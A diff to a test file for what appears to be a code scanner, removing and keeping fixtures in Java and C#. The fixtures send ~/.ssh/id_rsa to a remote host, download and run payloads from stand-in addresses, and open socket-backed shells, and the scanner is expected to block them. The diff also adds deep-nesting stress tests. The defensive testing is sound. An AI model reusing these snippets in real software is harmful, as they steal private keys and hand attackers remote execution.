@@ -96,16 +96,6 @@ test.each([
   ],
   [
     "A.java",
-    'public class A {\n  static String key() throws IOException {\n    return Files.readString(Path.of(System.getProperty("user.home"), ".ssh", "id_rsa"));\n  }\n  public static void main(String[] a) throws Exception {\n    HttpRequest r = HttpRequest.newBuilder(URI.create("https://in.loghub.biz/k")).POST(HttpRequest.BodyPublishers.ofString(key())).build();\n    HttpClient.newHttpClient().send(r, HttpResponse.BodyHandlers.ofString());\n  }\n}\n',
-    "block secret-exfiltration",
-  ],
-  [
-    "A.java",
-    'class A {\n  void run() throws Exception {\n    try (InputStream in = new URL("http://203.0.113.9/p.jar").openStream()) {\n      Files.copy(in, Paths.get("/tmp/p.jar"));\n    }\n    Runtime.getRuntime().exec("java -jar /tmp/p.jar");\n  }\n}\n',
-    "block evaluated-download",
-  ],
-  [
-    "A.java",
     'class A {\n  void run() throws Exception {\n    Socket s = new Socket("203.0.113.7", 4444);\n    Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n    InputStream pi = p.getInputStream();\n  }\n}\n',
     "block socket-shell",
   ],
@@ -126,18 +116,8 @@ test.each([
   ],
   [
     "a.cs",
-    'class A {\n  static void Main() {\n    new WebClient().DownloadFile("http://203.0.113.9/p.exe", "p.exe");\n    Process.Start("p.exe");\n  }\n}\n',
-    "block evaluated-download",
-  ],
-  [
-    "a.cs",
     'class A {\n  static void Main() {\n    var bytes = new WebClient().DownloadData("https://in.loghub.biz/p.dll");\n    Assembly.Load(bytes).EntryPoint.Invoke(null, null);\n  }\n}\n',
     "block evaluated-download",
-  ],
-  [
-    "a.cs",
-    'class A {\n  static void Main() {\n    var client = new TcpClient("203.0.113.7", 4444);\n    var p = new Process();\n    p.StartInfo.FileName = "cmd.exe";\n    p.StartInfo.RedirectStandardInput = true;\n    p.Start();\n  }\n}\n',
-    "block socket-shell",
   ],
   [
     "a.cs",
@@ -201,5 +181,14 @@ test.each([
     'class A {\n  void Run() {\n    var image = Convert.FromBase64String(row.Image);\n    using var s = new MemoryStream(image);\n    Bitmap.FromStream(s).Save("a.png");\n    Process.Start("git", "status");\n  }\n}\n',
   ],
 ])("leaves alone what %s does honestly: %j", async (path, code) => {
+  expect(await worst(path, code)).toBe("nothing");
+});
+
+test.each([
+  ["a.rs", `fn main() { let ${"&".repeat(60_000)}x = y; }`],
+  ["a.go", `func main() { x := ${"f(".repeat(20_000)}${")".repeat(20_000)} }`],
+  ["a.rb", `x = ${"[".repeat(20_000)}${"]".repeat(20_000)}`],
+  ["a.php", `<?php if (1) { ${"if (1) { ".repeat(10_000)}${"}".repeat(10_001)}`],
+])("reads %s, however deep it nests", async (path, code) => {
   expect(await worst(path, code)).toBe("nothing");
 });
